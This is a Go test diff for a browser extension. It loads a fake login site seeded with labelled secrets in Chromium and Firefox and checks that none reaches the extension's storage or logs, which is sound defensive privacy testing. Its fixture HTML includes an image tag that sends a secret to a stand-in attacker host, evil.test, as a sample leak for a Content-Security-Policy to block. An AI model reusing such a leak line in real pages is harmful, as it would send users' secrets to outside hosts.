@@ -1,10 +1,13 @@
 package browser
 
 import (
+	"bytes"
 	"encoding/json"
 	"fmt"
+	"net/http"
 	"slices"
 	"strings"
+	"sync"
 	"testing"
 
 	"assay/core/wire"
@@ -105,6 +108,118 @@ func TestQueriesAreCut(t *testing.T) {
 			t.Errorf("the page's URL: got %q, wanted it with its query and without its password", record.Report.URL)
 		}
 	})
+}
+
+// A session of logins, forms and calls whose secrets are known: none of them is in what the extension stores or logs.
+func TestNothingSecretIsKept(t *testing.T) {
+	for _, name := range driver.Names {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			log := &logBuffer{}
+			s := launch(t, name, driver.Options{
+				Extension: extension, Proxy: demo.Proxy.Addr(), CA: demo.Authority.PEM(), Log: log,
+				Flags: []string{"enable-logging=stderr"}, // Chromium: what extensions and pages log
+				Prefs: map[string]map[string]any{"firefox": {"devtools.console.stdout.content": true}}[name],
+			})
+			host := "secrets-" + name + ".test"
+			s.ok(demo.Serve(host, http.HandlerFunc(secretSite), http.HandlerFunc(secretSite)))
+			secrets := []string{
+				"secret-hop", "secret-location", "secret-set-cookie", "secret-csrf", "secret-link", "secret-action", "secret-hidden", "secret-script",
+				"secret-image", "secret-frame", "secret-fragment", "secret-blocked", "secret-call", "secret-bearer", "secret-api-key", "secret-api-cookie",
+				"secret-api-header", "secret-body", "secret-local", "secret-scripted", "secret-password", "secret-sent",
+			}
+			s.visit("http://" + host + "/start?token=secret-hop")
+			s.ok(driver.Poll("the page has made its calls", func() (bool, string) {
+				var title string
+				err := s.Page().Eval("document.title", &title)
+				return title == "called", fmt.Sprint(title, err)
+			}))
+			_, err := driver.Graded(s.Browser, func() error {
+				return s.Page().Eval(`void (document.querySelector("[name=password]").value = "secret-password", document.forms[0].submit())`, nil)
+			})
+			s.ok(err)
+			view, _ := s.popup("graded")
+			s.ok(view.Close())
+			s.storageRests()
+			s.noSecret(secrets...)
+
+			// The search must be able to find something, in the log too.
+			s.ok(s.Background(`console.error("a marker that is no secret")`, nil))
+			s.ok(driver.Poll("the browser has written its log", func() (bool, string) {
+				return strings.Contains(log.own(name), "a marker that is no secret"), log.own(name)
+			}))
+			for _, secret := range secrets {
+				if strings.Contains(log.own(name), secret) {
+					t.Errorf("the secret %q is in what the extension logs:\n%s", secret, log.own(name))
+				}
+			}
+		})
+	}
+}
+
+// secretSite is a site whose every part carries a secret.
+func secretSite(w http.ResponseWriter, r *http.Request) {
+	if r.TLS == nil {
+		http.SetCookie(w, &http.Cookie{Name: "hop", Value: "secret-set-cookie-0"})
+		http.Redirect(w, r, "https://"+r.Host+"/login?from=mail#secret-location", http.StatusFound)
+		return
+	}
+	http.SetCookie(w, &http.Cookie{Name: "sessionid", Value: "secret-set-cookie-1", Secure: true, HttpOnly: true})
+	w.Header().Set("X-CSRF-Token", "secret-csrf")
+	w.Header().Set("Link", "</next?page=secret-link>; rel=next")
+	w.Header().Set("Content-Type", "text/html")
+	switch r.URL.Path {
+	case "/login":
+		fmt.Fprint(w, `<!doctype html><title>login</title>
+			<meta http-equiv="Content-Security-Policy" content="img-src 'self'">
+			<form method="post" action="/inside"><input type="hidden" name="csrf" value="secret-hidden"><input type="password" name="password"></form>
+			<form action="/search?step=secret-action"></form>
+			<script src="/app.js?key=secret-script"></script><img src="/logo.png?signature=secret-image"><img src="https://evil.test/?leak=secret-blocked">
+			<iframe src="/frame?token=secret-frame#secret-fragment"></iframe>
+			<script>
+				localStorage.setItem("token", "secret-local");
+				document.cookie = "scripted=secret-scripted; Secure";
+				const headers = {Authorization: "Bearer secret-bearer", "X-Api-Key": "secret-api-key"};
+				fetch("/api?token=secret-call", {headers, method: "POST", body: "secret-body"}).then(() => document.title = "called");
+			</script>`)
+	case "/api":
+		http.SetCookie(w, &http.Cookie{Name: "api", Value: "secret-api-cookie", Secure: true})
+		w.Header().Set("X-Session-Token", "secret-api-header")
+		w.Header().Set("Content-Type", "application/json")
+		fmt.Fprint(w, `{"token": "secret-sent"}`)
+	case "/app.js":
+		w.Header().Set("Content-Type", "text/javascript")
+	default:
+		fmt.Fprint(w, `<!doctype html><title>inside</title><p>secret-sent`)
+	}
+}
+
+// A logBuffer keeps what a browser prints.
+type logBuffer struct {
+	mutex sync.Mutex
+	text  bytes.Buffer
+}
+
+func (b *logBuffer) Write(p []byte) (int, error) {
+	b.mutex.Lock()
+	defer b.mutex.Unlock()
+	return b.text.Write(p)
+}
+
+// own returns what the extension logged. Chromium also prints what it has to say about pages itself, with their addresses.
+func (b *logBuffer) own(browser string) string {
+	b.mutex.Lock()
+	defer b.mutex.Unlock()
+	if browser == "firefox" {
+		return b.text.String()
+	}
+	var own strings.Builder
+	for line := range strings.Lines(b.text.String()) {
+		if strings.Contains(line, "source: chrome-extension://") || strings.Contains(line, "marker") {
+			own.WriteString(line)
+		}
+	}
+	return own.String()
 }
 
 // waitStorage waits until the dump of the extension's storage is as wanted.
